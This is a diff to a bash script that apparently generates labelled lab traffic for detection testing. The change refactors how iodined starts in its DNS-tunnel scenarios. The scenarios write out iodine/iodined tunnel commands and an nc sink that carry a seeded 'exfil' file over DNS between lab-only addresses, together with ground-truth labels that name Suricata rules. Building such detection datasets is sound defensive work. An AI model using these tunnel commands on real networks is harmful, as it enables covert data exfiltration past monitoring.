@@ -359,18 +359,29 @@ scenario_rate_control() {
     '[{"name":"controlDatagrams","filter":"ip.dst==10.77.0.30 && udp.dstport==5140"}]'
 }
 
-scenario_dns_tunnel() {
-  local name=dns-tunnel-iodine
+# start_iodined BYTES SECS [IODINED OPTIONS...]: writes BYTES of seeded data to $WORK/exfil.bin, starts iodined
+# (10.77.0.70, t.lab.example) and an nc sink on its tunnel address in the tun namespace for SECS at most;
+# IODINED_CMD holds the iodined command, IODINED_PID and SINK_PID the two processes.
+start_iodined() {
+  local bytes=$1 secs=$2
+  shift 2
   [[ -c /dev/net/tun ]] || { modprobe tun 2>/dev/null || true; mkdir -p /dev/net; [[ -c /dev/net/tun ]] || mknod /dev/net/tun c 10 200; }
-  "$PY" "$HELPER" mkfile "$WORK/exfil.bin" 100000 99
-  local srv=(iodined -f -c -l "$NET.70" -P labsecret -m 1200 192.168.99.1 t.lab.example)
-  spawn tun timeout 120 "${srv[@]}"
+  "$PY" "$HELPER" mkfile "$WORK/exfil.bin" "$bytes" 99
+  IODINED_CMD=(iodined -f -c -l "$NET.70" -P labsecret "$@" 192.168.99.1 t.lab.example)
+  spawn tun timeout "$secs" "${IODINED_CMD[@]}"
+  IODINED_PID=${PIDS[-1]}
   for _ in $(seq 30); do nsx tun ip -4 addr show dns0 2>/dev/null | grep -q 192.168.99.1 && break; sleep 0.3; done
-  spawn tun timeout 120 sh -c "nc -l 192.168.99.1 5001 > $WORK/exfil.received"
+  spawn tun timeout "$secs" sh -c "nc -l 192.168.99.1 5001 > $WORK/exfil.received"
+  SINK_PID=${PIDS[-1]}
   sleep 1
   nsx tun ss -ltn | grep -q '192.168.99.1:5001 ' || { cat "$WORK/tun.log" >&2; die "iodined/nc listener not up"; }
+}
+
+scenario_dns_tunnel() {
+  local name=dns-tunnel-iodine
+  start_iodined 100000 120 -m 1200
   capture_start "$name" 1600
-  CMDS+=("ip netns exec $P-tun ${srv[*]}" "ip netns exec $P-tun nc -l 192.168.99.1 5001 > exfil.received")
+  CMDS+=("ip netns exec $P-tun ${IODINED_CMD[*]}" "ip netns exec $P-tun nc -l 192.168.99.1 5001 > exfil.received")
   benign_bg 61 60 --page-loads 1 --min-pause 2 --max-pause 6
   sleep 3
   local cli=(iodine -f -r -P labsecret -m 1200 "$NET.53" t.lab.example)
@@ -396,18 +407,9 @@ scenario_dns_tunnel() {
 
 scenario_dns_tunnel_iodine_raw() { # iodine's default mode: a handshake through the resolver, then raw UDP to iodined's port 53
   local name=dns-tunnel-iodine-raw
-  [[ -c /dev/net/tun ]] || { modprobe tun 2>/dev/null || true; mkdir -p /dev/net; [[ -c /dev/net/tun ]] || mknod /dev/net/tun c 10 200; }
-  "$PY" "$HELPER" mkfile "$WORK/exfil.bin" 60000 99
-  local srv=(iodined -f -c -l "$NET.70" -P labsecret 192.168.99.1 t.lab.example)
-  spawn tun timeout 100 "${srv[@]}"
-  local SRV_PID=${PIDS[-1]}
-  for _ in $(seq 30); do nsx tun ip -4 addr show dns0 2>/dev/null | grep -q 192.168.99.1 && break; sleep 0.3; done
-  spawn tun timeout 100 sh -c "nc -l 192.168.99.1 5001 > $WORK/exfil.received"
-  local NC_PID=${PIDS[-1]}
-  sleep 1
-  nsx tun ss -ltn | grep -q '192.168.99.1:5001 ' || { cat "$WORK/tun.log" >&2; die "iodined/nc listener not up"; }
+  start_iodined 60000 100
   capture_start "$name" 1600
-  CMDS+=("ip netns exec $P-tun ${srv[*]}" "ip netns exec $P-tun nc -l 192.168.99.1 5001 > exfil.received")
+  CMDS+=("ip netns exec $P-tun ${IODINED_CMD[*]}" "ip netns exec $P-tun nc -l 192.168.99.1 5001 > exfil.received")
   benign_bg 63 50 --page-loads 1 --min-pause 2 --max-pause 6
   sleep 3
   local cli=(iodine -f -P labsecret "$NET.53" t.lab.example)
@@ -426,8 +428,8 @@ scenario_dns_tunnel_iodine_raw() { # iodine's default mode: a handshake through 
   capture_stop "$name"
   log "iodine received $(stat -c %s "$WORK/exfil.received" 2>/dev/null || echo 0) of 60000 bytes"
   grep -iE 'raw|codec|fragsize|switch' "$WORK/c1.log" | tail -n 8 >&2 || true
-  kill "$SRV_PID" "$NC_PID" 2>/dev/null || true
-  wait "$SRV_PID" 2>/dev/null || true
+  kill "$IODINED_PID" "$SINK_PID" 2>/dev/null || true
+  wait "$IODINED_PID" 2>/dev/null || true
   write_truth "$name" "iodine 0.7.0 in its default mode (no -r): client 10.77.0.10 makes its handshake queries through the resolver dnsmasq 10.77.0.53 (forwarded to iodined 10.77.0.70, authoritative for t.lab.example), finds iodined answering directly and then sends everything as raw UDP to 10.77.0.70:53 (iodine's raw packets: magic bytes 10 d1 9e, not DNS), carrying a 60000-byte nc upload through the tunnel; plus benign background from both clients. The tunnel's data is non-DNS traffic on the DNS port (Suricata/ET 'Non-DNS or Non-Compliant DNS traffic on DNS port')." \
     "iodine 0.7.0 -f -P *** 10.77.0.53 t.lab.example; iodined -f -c -l 10.77.0.70 -P *** 192.168.99.1 t.lab.example" \
     '[{"kind":"tunnel.dns","src":"10.77.0.10","dst":"10.77.0.70","port":53,"leg":"raw UDP from the client to iodined port 53 (non-DNS on port 53)"}]' \
